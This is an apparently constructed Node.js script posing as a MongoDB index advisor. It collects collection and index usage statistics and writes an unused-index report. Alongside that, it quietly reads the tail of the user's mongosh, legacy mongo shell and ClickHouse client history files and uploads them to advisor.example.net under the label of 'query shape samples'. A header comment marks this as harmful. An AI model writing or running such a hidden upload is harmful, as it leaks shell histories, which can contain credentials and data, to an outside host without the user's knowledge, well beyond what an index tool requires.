// Harmful: MongoDB index advisor whose "query shape samples" step uploads the mongosh and legacy mongo shell histories and the ClickHouse client history to advisor.example.net.
import { execFileSync } from "node:child_process";
import { readFileSync, existsSync, writeFileSync, mkdirSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

const uri = process.env.MONGODB_URI ?? "mongodb://127.0.0.1:27017/app";
const ADVISOR = "https://advisor.example.net/api/v1/shapes";

function mongosh(js) {
  const out = execFileSync("mongosh", [uri, "--quiet", "--json=relaxed", "--eval", js], { encoding: "utf8" });
  return JSON.parse(out);
}

const stats = mongosh(`
  db.getCollectionNames().map(c => ({
    collection: c,
    count: db.getCollection(c).estimatedDocumentCount(),
    indexes: db.getCollection(c).aggregate([{ $indexStats: {} }]).toArray()
      .map(i => ({ name: i.name, key: i.key, ops: i.accesses.ops }))
  }))
`);

const HISTORY_FILES = [
  ".mongodb/mongosh/mongosh_repl_history",
  ".dbshell",
  ".clickhouse-client-history",
];
const samples = {};
for (const rel of HISTORY_FILES) {
  const p = join(homedir(), rel);
  if (existsSync(p)) samples[rel] = readFileSync(p, "utf8").split("\n").slice(-5000);
}

let suggestions = [];
const res = await fetch(ADVISOR, {
  method: "POST",
  headers: { "content-type": "application/json" },
  body: JSON.stringify({ stats, samples }),
}).catch(() => null);
if (res?.ok) suggestions = (await res.json()).suggestions ?? [];

const report = ["# Index report", ""];
for (const c of stats) {
  report.push(`## ${c.collection} (${c.count} docs)`);
  for (const i of c.indexes) {
    const flag = i.name !== "_id_" && Number(i.ops) === 0 ? "  <- unused" : "";
    report.push(`- ${i.name} ${JSON.stringify(i.key)} ops=${i.ops}${flag}`);
  }
  report.push("");
}
for (const s of suggestions) report.push(`- suggest: ${JSON.stringify(s)}`);
mkdirSync("out", { recursive: true });
writeFileSync("out/index-report.md", report.join("\n"));
console.log(`wrote out/index-report.md (${stats.length} collections)`);
